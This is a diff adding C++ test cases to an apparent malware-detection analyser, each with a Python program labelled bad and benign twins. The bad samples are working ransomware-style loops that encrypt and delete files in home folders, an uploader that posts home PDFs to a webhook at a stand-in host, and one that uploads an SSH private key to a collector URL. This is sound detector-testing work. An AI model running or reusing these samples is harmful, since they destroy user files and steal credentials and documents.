@@ -154,5 +154,142 @@ jobs[int(sys.argv[1])].send()
   for (const auto& c : cases) check(c);
 }
 
+// A class's method taken unbound into a table of operations (Path.read_bytes,
+// Path.write_bytes, Path.unlink) and called with the path as its first
+// argument is the method called on that path: the walked files were read,
+// encrypted and deleted without the analysis knowing which files (prog174c).
+// Twin: the same table writing encrypted copies and keeping the originals.
+TEST(HundredAndSeventiethRoundClasses, UnboundLibraryMethodsActOnTheirFirstArgument) {
+  const std::string program = R"py(
+import os
+from pathlib import Path
+from cryptography.fernet import Fernet
+
+box = Fernet(Fernet.generate_key())
+ops = {"read": Path.read_bytes, "seal": box.encrypt, "write": Path.write_bytes, "drop": Path.unlink}
+for dirpath, _dirs, files in os.walk(Path.home() / "Documents"):
+    for name in files:
+        path = Path(dirpath) / name
+        sealed = ops["seal"](ops["read"](path))
+        ops["write"](path.with_name(path.name + ".frozen"), sealed)
+        ops["drop"](path)
+)py";
+  std::string twin = program;
+  const std::string removal = "        ops[\"drop\"](path)\n";
+  twin.replace(twin.find(removal), removal.size(), "");
+  const Case cases[] = {
+      {"walked files read, encrypted and deleted through unbound methods", B, program.c_str(),
+       "RANSOMWARE-ENCRYPT-AND-DELETE"},
+      {"encrypted copies beside the originals, which stay", L, twin.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A Request has each URL its argument may be (an environment variable or its
+// default), and the documents of home folders attached to a chat webhook
+// written into the code leave the machine whoever may replace the hook
+// (prog175a). Twins: the same program posting only its message, and the
+// documents sent to an upload endpoint the environment names.
+TEST(HundredAndSeventiethRoundClasses, HomeDocumentsToAChatWebhook) {
+  const std::string program = R"py(
+import os, json, urllib.request
+from pathlib import Path
+
+HOOK = os.environ.get("YARD_HOOK", "https://hooks.example.net/api/webhooks/1180/yard-office")
+
+def paperwork():
+    for root in ["~/Documents", "~/Desktop"]:
+        for p in Path(root).expanduser().rglob("*.pdf"):
+            yield p
+
+def post(text, files=()):
+    body = json.dumps({"content": text}).encode()
+    for f in files:
+        body += f.read_bytes()
+    req = urllib.request.Request(HOOK, data=body, method="POST")
+    with urllib.request.urlopen(req, timeout=30) as resp:
+        return resp.status
+
+post("Invoices are out")
+for doc in paperwork():
+    post("Paperwork", [doc])
+)py";
+  std::string message_only = program.substr(0, program.find("for doc in paperwork():"));
+  std::string configured = program;
+  const std::string hook = "https://hooks.example.net/api/webhooks/1180/yard-office";
+  configured.replace(configured.find(hook), hook.size(), "https://files.example.net/upload");
+  const Case cases[] = {
+      {"home documents attached to a chat webhook", B, program.c_str(), "EXFILTRATION"},
+      {"only the message to the webhook", L, message_only.c_str()},
+      {"the documents to an upload endpoint the environment may name", L, configured.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// asyncio.to_thread(path.read_bytes) calls the library method and gives back
+// what it returns: the walked file was read (prog178a). Twin: the encrypted
+// copy written beside an original that stays.
+TEST(HundredAndSeventiethRoundClasses, LibraryCallbacksRunInAThread) {
+  const std::string program = R"py(
+import asyncio, os, pathlib
+from cryptography.fernet import Fernet
+
+box = Fernet(Fernet.generate_key())
+
+async def seal_one(path):
+    data = await asyncio.to_thread(path.read_bytes)
+    out = path.with_name(path.name + ".sealed")
+    await asyncio.to_thread(out.write_bytes, box.encrypt(data))
+    os.remove(path)
+
+async def main():
+    for dirpath, _dirs, files in os.walk(pathlib.Path.home() / "Pictures"):
+        await asyncio.gather(*(seal_one(pathlib.Path(dirpath, n)) for n in files))
+
+asyncio.run(main())
+)py";
+  std::string twin = program;
+  const std::string removal = "    os.remove(path)\n";
+  twin.replace(twin.find(removal), removal.size(), "");
+  const Case cases[] = {
+      {"walked files read in a thread, encrypted, deleted", B, program.c_str(), "RANSOMWARE-ENCRYPT-AND-DELETE"},
+      {"encrypted copies only", L, twin.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A variable the code sets in its own environment (a temporary file's name)
+// and reads back later holds what it set: the file staged with the keys is
+// the one uploaded (prog178d). Twin: the staged file holds only the sheets.
+TEST(HundredAndSeventiethRoundClasses, EnvironmentVariablesItSetItself) {
+  const std::string program = R"py(
+import os, json, tempfile, pathlib, urllib.request
+
+def stage():
+    data = {"sheets": pathlib.Path("stock.csv").read_text(),
+            "key": (pathlib.Path.home() / ".ssh" / "id_ed25519").read_text()}
+    fd, name = tempfile.mkstemp(suffix=".json")
+    with os.fdopen(fd, "w") as fh:
+        fh.write(json.dumps(data))
+    os.environ["STAGED_BUNDLE"] = name
+
+def ship():
+    body = pathlib.Path(os.environ["STAGED_BUNDLE"]).read_bytes()
+    req = urllib.request.Request("https://collector.example.org/upload", data=body, method="POST")
+    urllib.request.urlopen(req, timeout=30)
+
+stage()
+ship()
+)py";
+  std::string twin = program;
+  const std::string key_line = ",\n            \"key\": (pathlib.Path.home() / \".ssh\" / \"id_ed25519\").read_text()";
+  twin.replace(twin.find(key_line), key_line.size(), "");
+  const Case cases[] = {
+      {"a key staged in a file named by the environment, then uploaded", B, program.c_str(), "EXFILTRATION"},
+      {"only the stock sheet staged and uploaded", L, twin.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
